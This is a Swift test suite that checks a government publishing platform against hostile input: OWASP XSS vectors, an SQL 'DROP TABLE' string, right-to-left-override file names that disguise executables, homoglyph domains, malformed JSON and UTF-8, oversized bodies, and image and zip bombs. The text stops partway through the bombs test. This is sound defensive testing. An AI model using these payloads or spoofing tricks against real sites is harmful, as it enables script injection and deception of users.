import Foundation
#if canImport(Glibc)
import Glibc
#endif
import Store
import Testing

/// Hostile input across the running services, as an attacker or a broken client sends it: script
/// and event-handler vectors (OWASP XSS cheat sheet) in every text field and file name, SQL
/// metacharacters, path traversal, deeply nested and oversized JSON, invalid UTF-8, right-to-left
/// overrides and homoglyph domains, a zip bomb, an image decompression bomb and an email of 10,000
/// parts. Each is refused with a 4xx whose code says what to fix, or neutralised; no process dies;
/// nothing of it runs in a browser. Intake, approval, publishing and feedback run as processes
/// (`FeedbackFlowTests().withServices`), finance beside them where a test needs it.
@Suite("Hostile input across the services", .serialized)
struct HostileInputTests {
    static let financePort = 18_298

    typealias Answer = (status: Int?, body: String, headers: [String: String], cookies: [String])

    /// Vectors from the OWASP XSS filter evasion cheat sheet, each with its own number.
    static let vectors: [String] = [
        #"<script>alert(1)</script>"#,
        #""><script>alert(2)</script>"#,
        #"'><img src=x onerror=alert(3)>"#,
        #"<svg/onload=alert(4)>"#,
        #"<iframe src="javascript:alert(5)"></iframe>"#,
        #"<a href="jav&#x09;ascript:alert(6)">x</a>"#,
        #"<IMG SRC=JaVaScRiPt:alert(7)>"#,
        #"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(8)">x</a>"#,
        #"<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>"#,
        #"<noscript><p title="</noscript><img src=x onerror=alert(10)>">"#,
        #"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">x</a>"#,
        #"<details open ontoggle=alert(12)>"#,
        #"<scr<script>ipt>alert(13)</scr</script>ipt>"#,
        #"<div style="background:url(javascript:alert(14))">"#,
        #"<meta http-equiv="refresh" content="0;url=javascript:alert(15)">"#,
        #"<base href="javascript:alert(16)//">"#,
    ]
    /// All of them in one text.
    static var payload: String { vectors.joined(separator: " ") }
    /// Half of them at a time, to fit in the 500 characters of a title.
    static var firstHalf: String { vectors[..<8].joined(separator: " ") }
    static var secondHalf: String { vectors[8...].joined(separator: " ") }
    /// The same without '/' and '\', which no file name may hold.
    static let fileNameVectors = [
        #"<img src=x onerror=alert(21)>.png"#, #""><svg onload=alert(22)>.pdf"#, #"' onmouseover='alert(23)'.pdf"#,
        #"<body onload=alert(24)>.png"#,
    ]
    static let sqlMetacharacters = #"' OR '1'='1'; DROP TABLE intake.submissions; -- $$ \' %_ "#

    static let rlo = "\u{202E}"
    /// "lоngan": the second letter is the Cyrillic о (U+043E).
    static let homoglyphPortal = "l\u{043E}ngan.gov.vn"

    /// A PNG of one pixel, and the smallest PDF the sniffer takes.
    static let png = Array(Data(base64Encoded: IntakeAPITests.onePixelPNG)!)
    static let pdf = Array("%PDF-1.4\n%portal\n".utf8)

    // MARK: Script and event handlers

    @Test("Script and event-handler vectors (OWASP) in every text field and file name, by JSON, by form-data and in an editor's edit, reach the console, the submitter's tracking page, the published page, its print version (R-3.3), the lists and the feeds only as text; SQL metacharacters are kept as sent")
    func scriptVectorsAreOnlyText() async throws {
        try await FeedbackFlowTests().withServices { f in
            let s = f.s
            let tag = "hx\(UUID().uuidString.prefix(6).lowercased())"
            let payload = Self.payload
            let submitter = try s.token("ctv.tuphap")
            // JSON: every text field, two file names, an alt text.
            let json = Self.json([
                "title": "Tin \(tag) \(Self.firstHalf)", "summary": payload, "body": "<p>Mở đầu \(tag)</p>" + payload, "bodyFormat": "html",
                "kind": "news", "language": "vi", "authors": [["name": "Tác giả \(Self.vectors[2])", "share": 100]],
                "targetSites": ["longan.gov.vn", "sotuphap.longan.gov.vn"],
                "attachments": [
                    ["filename": Self.fileNameVectors[0], "contentType": "image/png", "dataBase64": Data(Self.png).base64EncodedString(), "altText": payload],
                    ["filename": Self.fileNameVectors[1], "contentType": "application/pdf", "dataBase64": Data(Self.pdf).base64EncodedString()],
                    // The vectors' `<img src=x …>` name this file: a picture in a body must show one of its files.
                    ["filename": "x", "contentType": "image/png", "dataBase64": Data(Self.png).base64EncodedString(), "altText": "x"],
                ],
            ])
            let created = httpRequest("POST", s.intake.url("/api/v1/submissions"),
                                      headers: ["Authorization": "Bearer \(submitter)", "Content-Type": "application/json"], body: json)
            #expect(created.status == 202, "\(created.body)")
            let id = try #require(Self.object(created.body)["id"] as? String, "\(created.body)")

            // Markdown: links and images with script schemes, raw HTML.
            let markdown = httpRequest("POST", s.intake.url("/api/v1/submissions"),
                                       headers: ["Authorization": "Bearer \(submitter)", "Content-Type": "application/json"],
                                       body: Self.json(["title": "Markdown \(tag) \(Self.secondHalf)", "bodyFormat": "markdown",
                                                        "body": "[bấm](javascript:alert(31)) ![ảnh](javascript:alert(32)) <script>alert(33)</script> [x](  JaVaScRiPt:alert(34))\n\n" + payload]))
            #expect(markdown.status == 202, "\(markdown.body)")
            let markdownId = try #require(Self.object(markdown.body)["id"] as? String)

            // Form-data: the vectors in the fields, in plain and RFC 5987 file names, in an alt text field.
            let form = Self.multipart(fields: [
                ("title", Array("Biểu mẫu \(tag) \(Self.firstHalf)".utf8)), ("body", Array(payload.utf8)), ("bodyFormat", Array("text".utf8)),
                ("authors", Array(Self.json([["name": Self.vectors[3]]]).utf8)), ("altText:\(Self.fileNameVectors[3])", Array(payload.utf8)),
            ], files: [
                (#"form-data; name="attachments"; filename="\#(Self.fileNameVectors[3])""#, "image/png", Self.png),
                ("form-data; name=\"attachments\"; filename*=UTF-8''" + Self.percentEncoded(Self.fileNameVectors[2]), "application/pdf", Self.pdf),
            ])
            let formSent = Self.bytesRequest("POST", s.intake.url("/api/v1/submissions"), headers: [
                "Authorization": "Bearer \(submitter)", "Content-Type": "multipart/form-data; boundary=\(Self.boundary)",
            ], body: form)
            #expect(formSent.status == 202, "\(formSent.body)")
            let formId = try #require(Self.object(formSent.body)["id"] as? String)

            // SQL metacharacters are text like any other.
            let sql = httpRequest("POST", s.intake.url("/api/v1/submissions"), headers: ["Authorization": "Bearer \(submitter)", "Content-Type": "application/json"],
                                  body: Self.json(["title": "SQL \(tag) \(Self.sqlMetacharacters)", "body": Self.sqlMetacharacters,
                                                   "authors": [["name": Self.sqlMetacharacters]]]))
            #expect(sql.status == 202, "\(sql.body)")
            let sqlId = try #require(Self.object(sql.body)["id"] as? String)
            let sqlStatus = Self.object(httpRequest("GET", s.intake.url("/api/v1/submissions/\(sqlId)"), headers: ["Authorization": "Bearer \(submitter)"]).body)
            // As sent, but for the surrounding spaces every title loses.
            #expect(sqlStatus["title"] as? String == "SQL \(tag) \(Self.sqlMetacharacters)".trimmingCharacters(in: .whitespaces), "stored as sent")

            for item in [id, markdownId, formId, sqlId] {
                try await eventually("\(item) reaches the editors", within: 20) { try s.api("GET", "/articles/\(item)", as: "btv.lan").status == 200 }
            }
            // The editor edits every field with the vectors, then the Board member approves.
            let edited = try s.api("PUT", "/articles/\(id)", as: "btv.lan", body: Self.json([
                "title": "Tin \(tag) sửa \(Self.firstHalf)", "summary": "Tóm tắt \(payload)", "body": "<p>Sửa \(tag)</p>" + payload, "bodyFormat": "html",
                "changeNote": payload,
                "classification": ["genre": "news", "coefficient": 5, "authors": [["name": "Biên tập \(Self.vectors[1])", "share": 100]],
                                   "categories": ["Chuyên mục \(tag) \(Self.vectors[0])"], "targetSites": ["longan.gov.vn", "sotuphap.longan.gov.vn"]],
            ]), headers: ["If-Match": "\"1\""])
            #expect(edited.status == 200, "\(edited.text)")
            #expect(try s.api("POST", "/articles/\(id)/submit-for-approval", as: "btv.lan", body: "{}").status == 200)
            let approved = try s.api("POST", "/articles/\(id)/approve", as: "gd.tuphap", body: #"{"revision": 2}"#)
            #expect(approved.status == 200, "\(approved.text)")

            // The API gives the editors sanitised HTML.
            for item in [id, markdownId, formId] {
                let view = try s.api("GET", "/articles/\(item)", as: "btv.lan")
                let html = (view.json["revision"] as? [String: Any])?["bodyHTML"] as? String ?? ""
                #expect(ExecutableMarkup.find(in: html).isEmpty, "bodyHTML of \(item) runs nothing: \(ExecutableMarkup.find(in: html)) in \(html.prefix(600))")
            }

            // The console: the item, its edit form, its audit, the diff, the queue.
            let console = try ConsoleSession(s.approval, login: "btv.lan")
            var pages: [(String, Answer)] = []
            for item in [id, markdownId, formId, sqlId] {
                for suffix in ["", "/edit", "/audit"] { pages.append(("console \(item)\(suffix)", console.get("/console/articles/\(item)\(suffix)"))) }
            }
            pages.append(("console diff", console.get("/console/articles/\(id)/diff?from=1&to=2")))
            pages.append(("console queue", console.get("/console")))
            pages.append(("tracking page", Self.answer(httpRequest("GET", s.intake.url("/theo-doi/\(formId)")))))
            let consolePage = console.get("/console/articles/\(formId)").body
            #expect(consolePage.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "the title is shown, escaped")
            #expect(consolePage.contains("&lt;body onload=alert(24)&gt;.png"), "the file name is shown, escaped")

            // Published on both sites: the page, its print version, the lists, the feeds, the search.
            let sites = PublishingSitesTests(publishingPort: FeedbackFlowTests.publishingPort)
            try await eventually("the item is published", within: 30) {
                sites.page(f.publishing, "longan.gov.vn", "/bai-viet/\(id).html").status == 200
            }
            for domain in ["longan.gov.vn", "sotuphap.longan.gov.vn"] {
                for path in ["/bai-viet/\(id).html", "/bai-viet/\(id).in.html", "/", "/rss.xml", "/atom.xml", "/chuyen-muc/", "/so-do-trang.html",
                             "/tim-kiem?q=\(tag)"] {
                    let page = sites.page(f.publishing, domain, path)
                    pages.append(("\(domain)\(path)", (page.status, page.body, page.headers, [])))
                }
            }
            let article = sites.page(f.publishing, "longan.gov.vn", "/bai-viet/\(id).html").body
            #expect(article.contains("Tin \(tag) sửa &lt;script&gt;alert(1)&lt;/script&gt;"), "the edited title, escaped")
            #expect(article.contains("Biên tập &quot;&gt;&lt;script&gt;alert(2)&lt;/script&gt;"), "R-1.5: the author is named, escaped")
            func categoryPath() -> String? {
                sites.page(f.publishing, "longan.gov.vn", "/chuyen-muc/").body.matches(of: #/href="(/chuyen-muc/[^"]+/)"/#)
                    .map { String($0.output.1) }.first { $0.contains(tag) }
            }
            try await eventually("the lists are redrawn with the category", within: 30) { categoryPath() != nil }
            let category = try #require(categoryPath(), "the category has its page")
            for path in [category, category + "rss.xml"] {
                let page = sites.page(f.publishing, "longan.gov.vn", path)
                pages.append(("longan.gov.vn\(path)", (page.status, page.body, page.headers, [])))
            }
            #expect(sites.page(f.publishing, "longan.gov.vn", "/tim-kiem?q=%27+OR+%271%27%3D%271%27%3B+--").status == 200, "SQL in the search is text")

            for (name, page) in pages {
                #expect(page.status == 200, "\(name) answers \(page.status ?? 0)")
                let found = ExecutableMarkup.find(in: page.body)
                #expect(found.isEmpty, "\(name) carries markup that runs: \(found)")
            }
            for service in [s.intake, s.approval, f.publishing, f.feedback] {
                #expect(service.isRunning && httpRequest("GET", service.url("/healthz")).status == 200, "\(service.name) still runs")
            }
        }
    }

    // MARK: Malformed and oversized bodies

    @Test("Deeply nested JSON, invalid UTF-8, lone surrogates and U+0000 get a 400 that says what to fix from intake, approval and feedback, the comment form included (R-6.4); a body over the limit gets 413 payload_too_large as JSON; a form-data part that is not UTF-8 is refused, never stored without its file (R-1.7); nothing is stored half-way")
    func malformedBodies() async throws {
        try await FeedbackFlowTests().withServices { f in
            let s = f.s
            let submitter = try s.token("ctv.tuphap")
            let auth = ["Authorization": "Bearer \(submitter)", "Content-Type": "application/json"]
            let tag = UUID().uuidString.prefix(6).lowercased()
            func submissions() async throws -> Int {
                try await s.pool.withConnection { try $0.query("SELECT count(*)::int AS n FROM intake.submissions").one().decode("n", as: Int.self) }
            }
            func questions() async throws -> Int {
                try await s.pool.withConnection { try $0.query("SELECT count(*)::int AS n FROM feedback.questions").one().decode("n", as: Int.self) }
            }
            let deepArray = "[" + String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000) + "]"
            let deepObject = String(repeating: #"{"a":"#, count: 100_000) + "1" + String(repeating: "}", count: 100_000)
            let validTitle = Array(#"{"title": "Tiêu đề XX", "body": "Nội dung."}"#.utf8)
            func withBytes(_ bytes: [UInt8]) -> [UInt8] {
                guard let at = validTitle.firstRange(of: Array("XX".utf8)) else { return validTitle }
                return Array(validTitle[..<at.lowerBound]) + bytes + Array(validTitle[at.upperBound...])
            }

            // Intake.
            let before = try await submissions()
            let intakeCases: [(String, [UInt8], Int, String)] = [
                ("100,000 nested arrays", Array(#"{"title": "T", "body": "B", "x": \#(deepArray)}"#.utf8), 400, "invalid_json"),
                ("100,000 nested objects", Array(#"{"title": "T", "body": "B", "x": \#(deepObject)}"#.utf8), 400, "invalid_json"),
                ("invalid UTF-8 (FF FE)", withBytes([0xFF, 0xFE]), 400, "invalid_json"),
                ("overlong UTF-8 (C0 AF)", withBytes([0xC0, 0xAF]), 400, "invalid_json"),
                ("UTF-8 of a surrogate (ED A0 80)", withBytes([0xED, 0xA0, 0x80]), 400, "invalid_json"),
                ("a lone surrogate escape", withBytes(Array(#"\ud800"#.utf8)), 400, "invalid_json"),
                ("U+0000 in the title", withBytes(Array(#"a\u0000b"#.utf8)), 400, "invalid_character"),
            ]
            for (name, body, status, code) in intakeCases {
                let answer = Self.bytesRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth, body: body)
                #expect(answer.status == status && Self.errorCode(answer.body) == code, "intake, \(name): \(answer.status ?? 0) \(answer.body.prefix(300))")
            }
            // 50 MB: refused before it is read, with the JSON error every other refusal has.
            let huge = Array(#"{"title": "Lớn", "body": ""#.utf8) + [UInt8](repeating: 0x78, count: 50 * 1024 * 1024) + Array(#""}"#.utf8)
            let tooLarge = Self.bytesRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth, body: huge)
            #expect(tooLarge.status == 413, "intake, 50 MB: \(tooLarge.status ?? 0)")
            #expect(Self.errorCode(tooLarge.body) == "payload_too_large", "intake, 50 MB: the 413 says what to fix (docs/openapi.yaml TooLarge): '\(tooLarge.body.prefix(200))'")

            // Form-data whose text or file name is not UTF-8: refused like the JSON, not stored with U+FFFD or without the file.
            let badField = Self.bytesRequest("POST", s.intake.url("/api/v1/submissions"), headers: [
                "Authorization": "Bearer \(submitter)", "Content-Type": "multipart/form-data; boundary=\(Self.boundary)",
            ], body: Self.multipart(fields: [("title", Array("Ti".utf8) + [0xFF, 0xFE] + Array("êu đề".utf8)), ("body", Array("Nội dung".utf8))]))
            #expect(badField.status == 400 && ["invalid_multipart", "invalid_character", "invalid_utf8"].contains(Self.errorCode(badField.body) ?? ""),
                    "intake, form field not UTF-8: \(badField.status ?? 0) \(badField.body.prefix(300))")
            let badName = Self.bytesRequest("POST", s.intake.url("/api/v1/submissions"), headers: [
                "Authorization": "Bearer \(submitter)", "Content-Type": "multipart/form-data; boundary=\(Self.boundary)",
            ], body: Self.multipart(fields: [("title", Array("Tệp tên hỏng".utf8)), ("body", Array("Nội dung".utf8))],
                                    rawFiles: [(Array(#"form-data; name="attachments"; filename="anh"#.utf8) + [0xFF, 0xFE] + Array(#".png""#.utf8), "image/png", Self.png)]))
            #expect(badName.status == 400 && ["invalid_file_name", "invalid_multipart"].contains(Self.errorCode(badName.body) ?? ""),
                    "R-1.7: intake, a file name not UTF-8 is refused, never accepted without the file: \(badName.status ?? 0) \(badName.body.prefix(300))")
            #expect(try await submissions() == before, "intake stored nothing of what it refused")

            // Approval: an editor's edit.
            let item = httpRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth, body: #"{"title": "Bài để sửa", "body": "Nội dung."}"#)
            let id = try #require(Self.object(item.body)["id"] as? String, "\(item.body)")
            try await eventually("queued", within: 20) { try s.api("GET", "/articles/\(id)", as: "btv.lan").status == 200 }
            let editor = ["Authorization": "Bearer \(try s.token("btv.lan"))", "Content-Type": "application/json", "If-Match": "\"1\""]
            let approvalCases: [(String, [UInt8], Int, String)] = [
                ("100,000 nested objects", Array(#"{"title": "T", "classification": \#(deepObject)}"#.utf8), 400, "invalid_json"),
                ("invalid UTF-8", withBytes([0xFF, 0xFE]), 400, "invalid_json"),
                ("a lone surrogate escape", withBytes(Array(#"\udc00"#.utf8)), 400, "invalid_json"),
                ("U+0000 in the title", withBytes(Array(#"a\u0000b"#.utf8)), 400, "invalid_character"),
                ("over 5 MiB", Array(#"{"summary": ""#.utf8) + [UInt8](repeating: 0x78, count: 6 * 1024 * 1024) + Array(#""}"#.utf8), 413, "payload_too_large"),
            ]
            for (name, body, status, code) in approvalCases {
                let answer = Self.bytesRequest("PUT", s.approval.url("/api/v1/articles/\(id)"), headers: editor, body: body)
                #expect(answer.status == status && Self.errorCode(answer.body) == code, "approval, \(name): \(answer.status ?? 0) \(answer.body.prefix(300))")
            }
            #expect(try s.api("GET", "/articles/\(id)", as: "btv.lan").headers["etag"] == "\"1\"", "no revision was made")

            // Feedback: a citizen's question.
            let questionsBefore = try await questions()
            func ask(_ body: [UInt8]) -> Answer {
                Self.bytesRequest("POST", f.feedback.url("/api/v1/questions"), headers: [
                    "Content-Type": "application/json", "Host": "longan.gov.vn", "X-Forwarded-For": "203.0.113.\(Int.random(in: 1...250))",
                ], body: body)
            }
            let deepQuestion = "[" + String(repeating: "[", count: 30_000) + String(repeating: "]", count: 30_000) + "]"
            let questionCases: [(String, [UInt8], Int, String)] = [
                ("30,000 nested arrays", Array(#"{"name": \#(deepQuestion)}"#.utf8), 400, "invalid_json"),
                ("invalid UTF-8", Array(#"{"name": "A"#.utf8) + [0xFF] + Array(#"", "email": "a@example.vn", "title": "T", "body": "B", "consent": true}"#.utf8), 400, "invalid_json"),
                ("U+0000 in the title", Array(#"{"name": "A", "email": "nul1.\#(tag)@example.vn", "title": "Hỏi về đất\u0000 đai ở xã", "body": "B", "consent": true}"#.utf8), 400, "invalid_character"),
                ("U+0000 in the body", Array(#"{"name": "A", "email": "nul2.\#(tag)@example.vn", "title": "T", "body": "Phần đầu\u0000 phần sau", "consent": true}"#.utf8), 400, "invalid_character"),
                ("over the limit", Array(#"{"body": ""#.utf8) + [UInt8](repeating: 0x78, count: 100_000) + Array(#""}"#.utf8), 413, "payload_too_large"),
            ]
            for (name, body, status, code) in questionCases {
                let answer = ask(body)
                #expect(answer.status == status && Self.errorCode(answer.body) == code, "feedback, \(name): \(answer.status ?? 0) \(answer.body.prefix(300))")
            }
            // A question whose attachment's file name is not UTF-8: refused, never accepted without the file.
            let lostFile = Self.bytesRequest("POST", f.feedback.url("/api/v1/questions"), headers: [
                "Content-Type": "multipart/form-data; boundary=\(Self.boundary)", "X-Forwarded-For": "203.0.113.\(Int.random(in: 1...250))",
            ], body: Self.multipart(fields: [("name", Array("Đỗ Văn Bảy".utf8)), ("email", Array("bay.nul.\(tag)@example.vn".utf8)), ("title", Array("Ảnh".utf8)),
                                             ("body", Array("Biên lai".utf8)), ("consent", Array("dong-y".utf8))],
                                    rawFiles: [(Array(#"form-data; name="attachment"; filename="bien-lai"#.utf8) + [0xFF] + Array(#".png""#.utf8), "image/png", Self.png)]))
            #expect(lostFile.status == 400, "R-1.7: feedback, an attachment whose name is not UTF-8 is refused, not dropped: \(lostFile.status ?? 0) \(lostFile.body.prefix(300))")
            #expect(try await questions() == questionsBefore, "feedback stored no question of those it refused")

            // The public comment form on a draft: U+0000 is refused with the page's message, not cut short and stored.
            let draft = try await Self.publishedDraft(f)
            func comments() async throws -> Int {
                try await s.pool.withConnection {
                    try $0.query("SELECT count(*)::int AS n FROM feedback.comments WHERE consultation_id = $1", [UUID(uuidString: draft)!]).one().decode("n", as: Int.self)
                }
            }
            let commentsBefore = try await comments()
            let nul = Self.bytesRequest("POST", f.feedback.url("/hoi-dap/y-kien/\(draft)"), headers: [
                "Content-Type": "application/x-www-form-urlencoded", "Host": "longan.gov.vn", "X-Forwarded-For": "198.51.100.\(Int.random(in: 1...250))",
            ], body: Array("article=1&body=G%C3%B3p%20%C3%BD%00%20ph%E1%BA%A7n%20sau".utf8))
            #expect(nul.status == 400, "R-6.4: a comment with U+0000 is refused with a message: \(nul.status ?? 0)")
            #expect(try await comments() == commentsBefore, "R-6.4: no comment was stored cut at the U+0000")
            let oversized = Self.bytesRequest("POST", f.feedback.url("/hoi-dap/y-kien/\(draft)"), headers: [
                "Content-Type": "application/x-www-form-urlencoded", "Host": "longan.gov.vn", "X-Forwarded-For": "198.51.100.\(Int.random(in: 1...250))",
            ], body: Array("article=1&body=".utf8) + [UInt8](repeating: 0x78, count: 3 * 1024 * 1024))
            #expect(oversized.status == 413 && !oversized.body.isEmpty, "a comment of 3 MB gets a page that says why, not an empty 413")

            for service in [s.intake, s.approval, f.publishing, f.feedback] {
                #expect(service.isRunning && httpRequest("GET", service.url("/healthz")).status == 200, "\(service.name) still runs")
            }
        }
    }

    // MARK: Unicode tricks

    @Test("Unicode tricks: a right-to-left override in a file name is refused by the API, the form-data, mail and a citizen's question, and never shown raw in a title; a homoglyph target site is refused by intake and by an editor's edit alike (R-7.1, R-7.2); a homoglyph link in a body never reaches the editors as sent")
    func unicodeTricks() async throws {
        try await FeedbackFlowTests().withServices { f in
            let s = f.s
            let submitter = try s.token("ctv.tuphap")
            let auth = ["Authorization": "Bearer \(submitter)", "Content-Type": "application/json"]
            let tag = UUID().uuidString.prefix(6).lowercased()
            // "bao-cao‮fdp.exe" reads "bao-caoexe.pdf" on screen and saves as an .exe.
            let spoofed = "bao-cao\(Self.rlo)fdp.exe"
            let byJSON = httpRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth, body: Self.json([
                "title": "Báo cáo quý", "body": "Nội dung.",
                "attachments": [["filename": spoofed, "contentType": "application/octet-stream", "dataBase64": Data("MZ".utf8).base64EncodedString()]],
            ]))
            #expect(byJSON.status == 400 && Self.errorCode(byJSON.body) == "invalid_file_name", "API: \(byJSON.status ?? 0) \(byJSON.body.prefix(300))")
            let byForm = Self.bytesRequest("POST", s.intake.url("/api/v1/submissions"), headers: [
                "Authorization": "Bearer \(submitter)", "Content-Type": "multipart/form-data; boundary=\(Self.boundary)",
            ], body: Self.multipart(fields: [("title", Array("Báo cáo quý".utf8)), ("body", Array("Nội dung.".utf8))],
                                    files: [("form-data; name=\"attachments\"; filename*=UTF-8''" + Self.percentEncoded(spoofed), "application/octet-stream", Array("MZ".utf8))]))
            #expect(byForm.status == 400 && Self.errorCode(byForm.body) == "invalid_file_name", "form-data: \(byForm.status ?? 0) \(byForm.body.prefix(300))")
            try IntakeMailTests.client.write(toFile: "\(s.work)/client.py", atomically: true, encoding: .utf8)
            let mail = """
                From: Nguyễn Văn An <nvan@sotuphap.longan.gov.vn>
                To: webmaster@longan.gov.vn
                Subject: [Tin] Báo cáo quý
                Message-ID: <\(UUID().uuidString)@sotuphap.longan.gov.vn>
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="hx"

                --hx
                Content-Type: text/plain; charset=utf-8

                Gửi báo cáo quý.
                --hx
                Content-Type: application/octet-stream
                Content-Disposition: attachment; filename*=UTF-8''\(Self.percentEncoded(spoofed))

                MZ
                --hx--

                """
            try Data(mail.utf8).write(to: URL(fileURLWithPath: "\(s.work)/rlo.eml"))
            let byMail = try s.env.run("/usr/bin/env", ["python3", "\(s.work)/client.py", String(s.intake.lmtpPort), "lmtp", "\(s.work)/rlo.eml"])
            #expect(byMail.output.contains("Kept for review (invalid_file_name)"), "mail: \(byMail.output)")
            let byQuestion = Self.bytesRequest("POST", f.feedback.url("/api/v1/questions"), headers: [
                "Content-Type": "multipart/form-data; boundary=\(Self.boundary)", "X-Forwarded-For": "203.0.113.\(Int.random(in: 1...250))",
            ], body: Self.multipart(fields: [("name", Array("Đỗ Văn Bảy".utf8)), ("email", Array("bay.rlo.\(tag)@example.vn".utf8)), ("title", Array("Hóa đơn".utf8)),
                                             ("body", Array("Hóa đơn đính kèm".utf8)), ("consent", Array("dong-y".utf8))],
                                    files: [("form-data; name=\"attachment\"; filename*=UTF-8''" + Self.percentEncoded("hoa-don\(Self.rlo)gnp.pdf"), "application/pdf", Self.pdf)]))
            #expect(byQuestion.status == 400 && ["invalid_attachment", "invalid_file_name"].contains(Self.errorCode(byQuestion.body) ?? ""),
                    "a citizen's question: \(byQuestion.status ?? 0) \(byQuestion.body.prefix(300))")

            // In a title the override is refused or neutralised: the editors never get a raw one that turns the rest of the line around.
            let title = httpRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth,
                                    body: Self.json(["title": "Báo cáo \(Self.rlo)gnp.exe", "body": "Nội dung."]))
            if title.status == 202, let id = Self.object(title.body)["id"] as? String {
                try await eventually("queued", within: 20) { try s.api("GET", "/articles/\(id)", as: "btv.lan").status == 200 }
                let page = try ConsoleSession(s.approval, login: "btv.lan").get("/console/articles/\(id)").body
                #expect(!page.contains(Self.rlo), "the console shows no raw U+202E")
            } else {
                #expect(title.status == 400 && Self.errorCode(title.body) != nil, "\(title.body)")
            }

            // Homoglyph target sites: intake refuses them.
            for site in [Self.homoglyphPortal, "s\u{043E}tuphap.longan.gov.vn", "xn--lngan-9ve.gov.vn"] {
                let answer = httpRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth,
                                         body: Self.json(["title": "Trang đích", "body": "Nội dung.", "targetSites": [site]]))
                #expect(answer.status == 400 && Self.errorCode(answer.body) == "invalid_target_site", "intake, \(site): \(answer.body.prefix(200))")
            }
            // …and so does an editor's edit, with the same codes: accepted, the item would be approved to a site that does not exist.
            let item = httpRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth, body: #"{"title": "Trang đích khi biên tập", "body": "Nội dung."}"#)
            let id = try #require(Self.object(item.body)["id"] as? String, "\(item.body)")
            try await eventually("queued", within: 20) { try s.api("GET", "/articles/\(id)", as: "btv.lan").status == 200 }
            for site in ["s\u{043E}tuphap.longan.gov.vn", "../../etc.longan.gov.vn", "a..longan.gov.vn", "<b>x</b>.longan.gov.vn", "khongco.longan.gov.vn"] {
                let revision = try s.api("GET", "/articles/\(id)", as: "btv.lan").headers["etag"] ?? "\"1\""
                let edit = try s.api("PUT", "/articles/\(id)", as: "btv.lan", body: Self.json(["classification": ["targetSites": [site]]]),
                                     headers: ["If-Match": revision])
                #expect((400..<500).contains(edit.status) && ["invalid_target_site", "unknown_target_site"].contains(s.errorCode(edit) ?? ""),
                        "R-7.1, R-7.2: approval takes the target site \(site): \(edit.status) \(edit.text.prefix(200))")
            }
            #expect(try s.api("GET", "/articles/\(id)", as: "btv.lan").headers["etag"] == "\"1\"", "no revision was made with a bad target site")

            // A link that reads "longan.gov.vn" and goes to "lоngan.gov.vn": refused, or the editors see where it really goes.
            let linked = httpRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth, body: Self.json([
                "title": "Thông báo có liên kết", "bodyFormat": "html",
                "body": #"<p>Xem tại <a href="https://\#(Self.homoglyphPortal)/thong-bao">https://longan.gov.vn/thong-bao</a></p>"#,
            ]))
            if linked.status == 202, let linkedId = Self.object(linked.body)["id"] as? String {
                try await eventually("queued", within: 20) { try s.api("GET", "/articles/\(linkedId)", as: "btv.lan").status == 200 }
                let html = (try s.api("GET", "/articles/\(linkedId)", as: "btv.lan").json["revision"] as? [String: Any])?["bodyHTML"] as? String ?? ""
                #expect(!html.contains("href=\"https://\(Self.homoglyphPortal)"), "a homoglyph host is not kept as a link: \(html)")
            } else {
                #expect(linked.status == 400 && Self.errorCode(linked.body) != nil, "\(linked.body)")
            }
            // A citizen's email at a homoglyph domain is refused.
            let email = FeedbackFlowTests().question(f, #"{"name": "A", "email": "a@\#(Self.homoglyphPortal)", "title": "T", "body": "B", "consent": true}"#,
                                                     address: "203.0.113.\(Int.random(in: 1...250))")
            #expect(email.status == 400 && (email.json["error"] as? [String: Any])?["code"] as? String == "invalid_email")
            for service in [s.intake, s.approval, f.publishing, f.feedback] {
                #expect(service.isRunning && httpRequest("GET", service.url("/healthz")).status == 200, "\(service.name) still runs")
            }
        }
    }

    // MARK: Bombs

    @Test("Bombs: a 50,000 × 50,000 PNG of 300 KB is refused with a code that names the image (a unit's submission, a citizen's question); a docx and an xlsx that are zip bombs are kept as opaque downloads, never opened; an email of 10,000 parts is held, not made an item of 10,000 files; 10,000 attachments and 5 MB of body text by the API are refused; 10,000 nested MIME parts are held as malformed; every process lives")
    func bombs() async throws {
        try await FeedbackFlowTests().withServices { f in
            let s = f.s
            let submitter = try s.token("ctv.tuphap")
            let auth = ["Authorization": "Bearer \(submitter)", "Content-Type": "application/json"]
            let tag = UUID().uuidString.prefix(6).lowercased()
            try Self.bombScript.write(toFile: "\(s.work)/bombs.py", atomically: true, encoding: .utf8)
            try IntakeMailTests.client.write(toFile: "\(s.work)/client.py", atomically: true, encoding: .utf8)
            func python(_ arguments: [String]) throws -> String {
                let result = try s.env.run("/usr/bin/env", ["python3", "\(s.work)/bombs.py"] + arguments)
                guard result.status == 0 else { throw SetupError("bombs.py \(arguments): \(result.output)") }
                return result.output
            }
            _ = try python(["png", "\(s.work)/bomb.png"])
            _ = try python(["zip", "\(s.work)/bomb.docx"])
            let bomb = try [UInt8](Data(contentsOf: URL(fileURLWithPath: "\(s.work)/bomb.png")))
            let zip = try [UInt8](Data(contentsOf: URL(fileURLWithPath: "\(s.work)/bomb.docx")))
            #expect(bomb.count < 400_000 && zip.count < 20_000, "small on the wire: \(bomb.count), \(zip.count) bytes")

            // 2.5 gigapixels declared: refused before anything decodes it (publishing's thumbnails, an editor's browser).
            let picture = httpRequest("POST", s.intake.url("/api/v1/submissions"), headers: auth, body: Self.json([
                "title": "Ảnh rất lớn", "body": "Nội dung.",
                "attachments": [["filename": "anh.png", "contentType": "image/png", "dataBase64": Data(bomb).base64EncodedString(), "altText": "Ảnh"]],
            ]))
            let pictureCode = Self.errorCode(picture.body) ?? ""
            #expect((400..<500).contains(picture.status ?? 0) && (pictureCode.contains("image") || pictureCode.contains("pixel")),
                    "intake, a 50,000 × 50,000 PNG: \(picture.status ?? 0) \(picture.body.prefix(300))")
